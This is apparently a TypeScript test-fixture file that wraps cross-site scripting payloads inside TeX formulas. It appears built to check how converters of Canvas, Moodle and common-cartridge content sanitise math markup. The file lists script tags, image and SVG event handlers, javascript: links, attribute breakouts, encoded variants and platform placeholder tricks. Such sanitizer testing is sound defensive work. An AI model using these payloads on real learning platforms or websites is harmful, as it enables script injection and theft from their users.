import { each, named, type Payload, RUN, SITE } from './payload.ts';

const IMAGE = `<img src=x onerror=${RUN}>`;
const SCRIPT = `<script>${RUN}</script>`;

/**
 * TeX that is read without fault and so reaches what each platform gets of a formula: the values of Canvas's picture and its
 * address, TeX in the text of Moodle and of plain cartridges, the name and the letters of MathML.
 */
export const formulas: readonly Payload[] = [
  ...each(
    'markup in the words of a formula',
    [
      IMAGE,
      SCRIPT,
      `"><svg onload=${RUN}>`,
      `" onload="${RUN}" x="`,
      `' onerror=${RUN} x='`,
      `</span></span>${IMAGE}`,
      `</math>${SCRIPT}`,
      `</mtext></math><annotation-xml encoding=text/html>${IMAGE}`,
      `<iframe src=javascript:${RUN}>`,
      `<a href=javascript:${RUN}>x</a>`,
      `]]>${IMAGE}`,
      `-->${SCRIPT}`,
      `\\&lt;img src=x onerror=${RUN}\\&gt;`,
      `\\&amp;lt;script\\&amp;gt;${RUN}`,
      `\\%22\\%3E\\%3Cimg src=x onerror=${RUN}\\%3E`,
      `@@PLUGINFILE@@/x" onerror="${RUN}`,
      `\\$@PAGEVIEWBYID*1@\\$"><script>${RUN}</script>`,
      `\\$IMS-CC-FILEBASE\\$/x" onerror="${RUN}`,
      `x?scale=1" onload="${RUN}`,
      `${SITE}/x.png`,
    ],
    (words) => `$\\text{${words}}$`,
  ),
  ...named({
    'markup among the signs of a formula': `$a<img src=x onerror=${RUN}>b$`,
    'a tag in a formula of its own line': `$$\n\\text{${IMAGE}}\n$$`,
    'a tag in TeX between brackets': `\\[\\text{${SCRIPT}}\\]`,
    'a tag in mathematics in words': `$\\text{a \\(\\text{${IMAGE}}\\)}$`,
    'a cloze of Moodle in a formula': `$\\{1:SHORTANSWER:=\\text{${IMAGE}}\\}$`,
    'a gap of Moodle in a formula': `$[[1]]\\{\\#1\\}\\text{${IMAGE}}$`,
    'a brace that is not closed': `$\\left\\{ x \\right.$ *a* ${IMAGE} }`,
    'spoken words that end their attribute': `$x\${words="\\"><img src=x onerror=${RUN}>"}`,
    'spoken words with a handler': `$x\${words="' onfocus=${RUN} x='"}`,
    'spoken words with character references': `$x\${words="&quot;&gt;&lt;script&gt;${RUN}&lt;/script&gt;"}`,
    'letters of other scripts that are names': `$\\text{＜script＞}\\text{${SCRIPT}}$`,
  }),
];
